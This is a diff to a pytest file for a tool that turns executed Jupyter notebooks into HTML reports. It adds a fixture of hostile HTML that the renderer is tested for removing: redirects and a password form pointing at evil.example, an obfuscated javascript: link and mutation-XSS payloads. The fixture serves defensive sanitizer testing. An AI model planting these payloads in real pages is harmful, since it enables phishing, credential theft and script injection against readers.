@@ -13,13 +13,14 @@ import nbformat
 import pytest
 from made_run import HOSTILE, IMAGE, TWIN, data, notebook, write_run
 
-from runbook.phases.status import status_of_all
-from runbook.plan.checks import Check
-from runbook.records.curve import loss_curve, spark
-from runbook.records.html import LARGEST_PAGE, report, said_by_html
-from runbook.records.index import write_campaign, write_runs_index
-from runbook.records.runs import read_run, read_runs
-from runbook.records.state import State
+from runbook.core.checks import Check
+from runbook.records.engine.execution_end import ExecutionState
+from runbook.records.manifest import set_aside
+from runbook.records.pages.notebook_page import LARGEST_PAGE, report
+from runbook.records.pages.run_pages import loss_curve, spark, write_campaign, write_runs_index
+from runbook.records.run_state import read_run, read_runs
+from runbook.records.verify import said_by_html
+from runbook.workflow.status import status_of_all
 
 FETCHING = {"src", "srcset", "poster", "data", "action", "formaction", "background", "xlink:href"}
 
@@ -115,6 +116,50 @@ def test_report_asks_for_nothing_from_any_network():
     assert 'alt="Loss falls"' in text
 
 
+LEADING_AWAY = """<meta http-equiv=refresh content='0; url=https://evil.example'><base href="https://evil.example/">
+<form action="https://evil.example"><input name=password><button formaction="https://evil.example">send</button>
+</form><a href="java&#9;script:alert(1)" ping="https://evil.example" target=_top>click</a>
+<a href="https://example.org">kept</a><!--><base href="//evil.example">
+<svg><style><meta http-equiv=refresh content="0; url=https://evil.example"></style></svg>
+<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>
+<p style="background:URL( //evil.example/x )"></p>
+<meta
+http-equiv="refresh" content="0; url=https://evil.example"/>
+<iframe srcdoc="<base href=//evil.example>"></iframe></main>"""
+
+
+@pytest.mark.parametrize("where", ["output", "markdown output", "text", "cell state"])
+def test_a_filed_notebook_takes_no_reader_to_another_site_and_turns_no_link(where):
+    content = notebook(data(text_html="<b>fine</b>"))
+    cell = content.cells[1]
+    if where == "output":
+        cell.outputs = [data(text_html=LEADING_AWAY)]
+    elif where == "markdown output":
+        cell.outputs = [data(text_markdown=LEADING_AWAY)]
+    elif where == "text":
+        content.cells[0].source = f"# Title\n\n{LEADING_AWAY}"
+    else:
+        cell.metadata["papermill"] = {"status": LEADING_AWAY, "duration": LEADING_AWAY}
+    text = report(content, TWIN)
+    page = Page(text)
+    assert page.requests == []
+    assert not {"base", "form", "iframe", "script"} & set(page.tags)
+    assert page.tags.count("meta") == 3, "our own: charset, viewport and what the browser may fetch"
+    body = text.partition("</head>")[2]
+    assert re.findall(r"<(?:meta|base|form|iframe)|<\w[^>]*\s(?:formaction|ping|onerror|http-equiv)=", body, re.I) == []
+    assert re.findall(r'<a [^>]*href="java|<p [^>]*evil', body, re.I) == []
+    if where in ("output", "text"):
+        assert 'href="https://example.org"' in text and ">click</a>" in text
+
+
+def test_every_page_forbids_another_base_and_sending_forms(tmp_path):
+    run_folder = write_run(tmp_path / "runs")
+    pages = [*run_folder.glob("*.html"), *run_folder.glob("records/*.html"), *run_folder.parent.glob("*.html")]
+    assert len(pages) == 5
+    for page in pages:
+        assert page.read_text().count("base-uri 'none'; form-action 'none'") == 1, page
+
+
 def test_report_has_anchors_for_each_heading_once():
     markdown = "# A run\n\n## Does it fit?\n\ntext\n\n## Does it fit?\n\n```\n# no heading\n```\n### *Third* `level`"
     page = Page(report(notebook(markdown=markdown), TWIN))
@@ -135,7 +180,9 @@ def test_code_is_folded_and_open_where_it_failed():
     marker.metadata["tags"] = ["papermill-error-cell-tag"]
     banner = nbformat.v4.new_markdown_cell("<span>An Exception was encountered</span>", metadata=dict(marker.metadata))
     content.cells = [banner, *content.cells, marker, failed]
-    twin = replace(TWIN, state=State.FAILED, verdict="fail", reason="ZeroDivisionError: division by zero <now>")
+    twin = replace(
+        TWIN, state=ExecutionState.FAILED, verdict="fail", reason="ZeroDivisionError: division by zero <now>"
+    )
     text = report(content, twin)
     assert text.count('<details class="code">') == 1
     assert text.count('<details class="code" open') == 1
@@ -202,6 +249,18 @@ def test_campaign_shows_phases_curve_sample_and_plan_against_actual(tmp_path):
     )
     assert "gibberish" in given.read_text()
     assert "time (s)" in given.read_text()
+
+
+def test_the_time_of_all_phases_says_which_executions_it_counts(tmp_path):
+    run_folder = write_run(tmp_path / "runs")
+    assert "2 min 30 s, the newest execution of each" in Page((run_folder / "index.html").read_text()).text
+    write_run(tmp_path / "other")
+    set_aside(run_folder, "04-training")
+    for suffix in (".json", ".ipynb", ".html"):
+        name = f"04-training{suffix}"
+        (run_folder / "records" / name).write_bytes((tmp_path / "other/toy/records" / name).read_bytes())
+    text = Page(write_campaign(run_folder).read_text()).text
+    assert "2 min 30 s, the newest execution of each; 5 min with one earlier" in text
 
 
 def test_campaign_and_index_survive_a_broken_record_and_an_open_one(tmp_path):
